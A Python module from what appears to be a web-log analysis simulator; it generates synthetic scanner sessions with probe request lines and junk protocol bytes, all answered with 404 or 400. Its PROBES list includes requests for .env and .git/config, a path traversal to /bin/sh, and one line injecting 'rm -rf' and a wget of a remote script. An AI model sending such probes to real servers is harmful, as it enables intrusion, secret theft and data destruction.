"""Scanners: they go through addresses, not names, so the old address meets them for ever, and the new one too."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import numpy as np

from analyzer.simulation.addresses import crowd
from analyzer.simulation.agents import SCANNERS
from analyzer.simulation.parts import (
    FIXED_NEW,
    FIXED_OLD,
    Client,
    Part,
    Requests,
    constant,
    no_lookups,
    texts,
    weighted,
)
from analyzer.simulation.site import took_s
from analyzer.units import DAY_S, HOUR_S

if TYPE_CHECKING:
    from analyzer.simulation.parts import Floats, Ints
    from analyzer.simulation.world import World

PROBES = texts(
    [
        "GET /.env HTTP/1.1",
        "GET /.git/config HTTP/1.1",
        "GET /wp-login.php HTTP/1.1",
        "GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1",
        "POST /xmlrpc.php HTTP/1.1",
        "GET /phpmyadmin/index.php HTTP/1.1",
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
        "GET /actuator/health HTTP/1.1",
        "GET /boaform/admin/formLogin?username=admin&psd=admin HTTP/1.0",
        "GET /backup.zip HTTP/1.1",
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/x.sh HTTP/1.1",
    ]
)
# Bytes of other protocols on the plain port, as Apache logs them: TLS (cut at its first NUL), RDP, SSH, SMB.
JUNK = texts((r"\x16\x03\x01", r"\x03", r"SSH-2.0-Go", r"\xffSMBr"))
JUNK_SHARE = 0.25  # of sessions
MAX_PROBES = 9  # in a session
PACE_S = 0.7  # [s] between two probes of a session
WAVE_S = 3.0 * HOUR_S


@dataclass(frozen=True, slots=True)
class Scanners:
    """Scanners at a steady rate on both servers, and waves of them on the old one."""

    per_day: float = 15.0  # sessions, on each server
    waves_s: tuple[float, ...] = ()  # [s since the change]
    wave_sessions: int = 250

    def part(self, world: World, draw: np.random.Generator) -> Part:
        """Return these scanners and their requests."""
        span_s = world.known_until_s - world.warm_from_s
        steady = draw.poisson(self.per_day * span_s / DAY_S, 2)
        starts_s = [world.warm_from_s + draw.random(int(n)) * span_s for n in steady]
        starts_s += [at_s + draw.random(self.wave_sessions) * WAVE_S for at_s in self.waves_s]
        server = np.repeat(
            [FIXED_OLD, FIXED_NEW] + [FIXED_OLD] * len(self.waves_s), [len(column) for column in starts_s]
        )
        return self._sessions(np.concatenate(starts_s), server, draw)

    def _sessions(self, starts_s: Floats, server: Ints, draw: np.random.Generator) -> Part:
        """Return sessions, each from an address of its own: a few probes, or junk."""
        count = len(starts_s)
        junk = draw.random(count) < JUNK_SHARE
        which = weighted(draw, [weight for _, weight in SCANNERS], count)
        clients = tuple(
            Client(address, None if is_junk else SCANNERS[agent][0], "scanner", "scanner")
            for address, is_junk, agent in zip(
                crowd(count, draw, ipv6_share=0.0), junk.tolist(), which.tolist(), strict=True
            )
        )
        length = np.where(junk, 1, draw.integers(1, MAX_PROBES + 1, size=count))
        of = np.repeat(np.arange(count), length)
        rank = np.arange(len(of)) - np.repeat(np.cumsum(length) - length, length)
        line = np.where(
            junk[of], JUNK[draw.integers(len(JUNK), size=len(of))], PROBES[draw.integers(len(PROBES), size=len(of))]
        )
        return Part(
            clients,
            no_lookups(),
            Requests(
                at_s=starts_s[of] + rank * PACE_S,
                took_s=took_s(len(of), 0.01, draw),
                client=of,
                lookup=server[of],
                line=line,
                status=np.where(junk[of], 400, 404),
                size=np.where(junk[of], 483, 436),
                referer=constant("-", len(of)),
            ),
        )
